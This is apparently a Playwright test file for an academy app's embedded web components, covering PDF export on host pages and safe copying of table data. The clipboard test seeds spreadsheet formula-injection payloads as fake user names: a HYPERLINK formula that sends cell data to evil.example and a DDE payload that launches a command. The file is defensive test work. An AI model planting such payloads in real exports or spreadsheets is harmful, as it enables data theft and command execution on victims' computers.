/** Exports from built files on somebody else's page: what writes them is fetched when somebody exports. */
import { readFile } from 'node:fs/promises';
import type { Locator } from '@playwright/test';
import { expect, sessionOf, signInto, storeSession, test } from '#tests/support/browser/journeys.ts';
import { administrator } from '#tests/support/data/accounts.ts';
import { standingFor } from '#tests/support/run/gate.ts';
import { FORMS, isMissing, pageOf, SURROUNDINGS } from './pages/pages.ts';

const [watching, , classic] = FORMS;

const PAGES = [
  [watching, 'extends built-ins'],
  [classic, 'freezes built-ins'],
  [classic, 'with a <base>'],
] as const;

// In the gate the page that changes the most under a script stands for all.
for (const [form, of] of standingFor(PAGES, ([, of]) => of === 'freezes built-ins')) {
  test(`a list is saved as a PDF on a page that ${of.replace('with', 'has')}, with ${form.name}`, {
    tag: '@all',
  }, async ({ page, places }) => {
    const { academy, dist, embedding } = places;
    await signInto(page, places, administrator);
    const writers: string[] = [];
    page.on('request', (request) => {
      if (/\/chunks\/(?:writing|pdf|excel)-/.test(request.url())) writers.push(request.url());
    });
    const element = `<academy-plans api-base="${academy.origin}"></academy-plans>`;
    const surroundings = SURROUNDINGS.find(({ name }) => name.endsWith(of));
    if (!surroundings) throw new Error(`There is no page that ${of}.`);
    test.skip(isMissing(surroundings), 'its packages are not installed');
    await page.goto(
      embedding.put({ html: pageOf(surroundings, form.scripts(dist), element), files: surroundings.files ?? {} }),
    );
    await page.getByRole('button', { name: 'Export' }).click();
    expect(writers).toEqual([]);
    const download = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: 'PDF' }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^study-plans-\d{4}-\d\d-\d\d\.pdf$/);
    expect((await readFile(await file.path())).subarray(0, 5).toString()).toBe('%PDF-');
    expect(writers.some((url) => url.startsWith(dist.base))).toBe(true);
  });
}

test('what is copied out of a table is pasted into a spreadsheet without running', async ({
  page,
  context,
  academy,
  dist,
  embedding,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: embedding.origin });
  await storeSession(page, embedding, await sessionOf(academy, administrator));
  const names = ['=HYPERLINK("https://evil.example?"&A2,"Pay")', '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', 'Asha'];
  await page.route('**/api/admin/users?**', (route) =>
    route.fulfill({
      json: {
        data: names.map((firstName, pid) => ({ pid, firstName, mobileNumber: `+91984700${pid}`, userRole: 6 })),
        pagination: { currentPage: 1, totalPages: 1, totalItems: names.length, itemsPerPage: 10 },
      },
    }),
  );
  const element = `<p>Before</p><academy-users api-base="${academy.origin}"></academy-users><p>After</p>`;
  const [surroundings] = SURROUNDINGS;
  if (!surroundings) throw new Error('There are no pages to embed in.');
  test.skip(isMissing(surroundings), 'its packages are not installed');
  await page.goto(
    embedding.put({ html: pageOf(surroundings, watching.scripts(dist), element), files: surroundings.files ?? {} }),
  );
  const rows = page.getByRole('table').locator('tbody').getByRole('row');
  await expect(rows).toHaveCount(names.length);

  /** Selects with the mouse, copies with the keyboard, and reads what another program would get. */
  const copied = async (from: Locator, to: Locator) => {
    await from.scrollIntoViewIfNeeded();
    const [start, end] = [await from.boundingBox(), await to.boundingBox()];
    if (!start || !end) throw new Error('Nothing to select is in sight.');
    await page.mouse.move(start.x + 1, start.y + start.height / 2);
    await page.mouse.down();
    await page.mouse.move(end.x + end.width - 1, end.y + end.height / 2, { steps: 5 });
    await page.mouse.up();
    await page.keyboard.press('ControlOrMeta+c');
    return page.evaluate(async () => {
      const flavours: Record<string, string> = {};
      for (const item of await navigator.clipboard.read()) {
        for (const type of item.types) flavours[type] = await (await item.getType(type)).text();
      }
      return flavours;
    });
  };
  const cellsOf = (text = '') => text.split(/[\t\r\n]+/);

  // Where it would run, its words go out as text, and the markup does not, whose cells would run too.
  const all = await copied(page.getByText(names[0] ?? '', { exact: true }), page.getByText('Asha', { exact: true }));
  expect(Object.keys(all)).toEqual(['text/plain']);
  const cells = cellsOf(all['text/plain']);
  expect(cells).toEqual(expect.arrayContaining([...names.slice(0, 3).map((name) => `'${name}`), '+919847000']));
  expect(cells.filter((cell) => /^\s*[=@+-](?![\d.]+$)/.test(cell))).toEqual([]);

  // A press on what is selected would drag it.
  await page.getByText('After', { exact: true }).click();
  // What would not run is copied as browsers do, with its markup.
  const name = page.getByText('Asha', { exact: true });
  const one = await copied(name, name);
  expect([one['text/plain']?.trim(), 'text/html' in one]).toEqual(['Asha', true]);
});
